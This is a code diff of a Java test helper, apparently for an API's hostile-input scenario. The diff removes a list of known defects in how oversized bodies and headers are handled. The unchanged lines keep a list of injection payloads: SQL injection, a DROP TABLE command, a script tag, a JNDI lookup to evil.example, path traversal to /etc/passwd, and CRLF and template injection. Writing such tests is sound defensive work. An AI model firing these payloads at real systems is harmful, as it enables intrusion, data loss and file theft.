@@ -34,19 +34,6 @@ final class HostileInput {
     private static final List<String> INJECTIONS = List.of("' OR '1'='1", "1; DROP TABLE project; --", "<script>alert(1)</script>",
             "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%00%0d%0aSet-Cookie:x=1", "\\u0000", "{{7*7}}");
 
-    /**
-     * Defects this scenario found and that are not fixed yet (issue 7): these cases are left out of the
-     * scenario and asserted by its @Disabled twin, which turns green when they are fixed.
-     */
-    static final Map<String, String> KNOWN_DEFECTS = Map.of(
-            "POST /api/projects 12 MB body", "a body over the limit is a 413 without a problem body",
-            "POST /api/issues/{id}/transitions 12 MB body", "a body over the limit on this route is a 503 'issues-service is not reachable' from the gateway (a 5xx for a client error)",
-            "huge header", "a 64 KB header is a 431 without a problem body");
-
-    static boolean knownDefect(Case c) {
-        return KNOWN_DEFECTS.containsKey(c.name());
-    }
-
     private HostileInput() {
     }
 
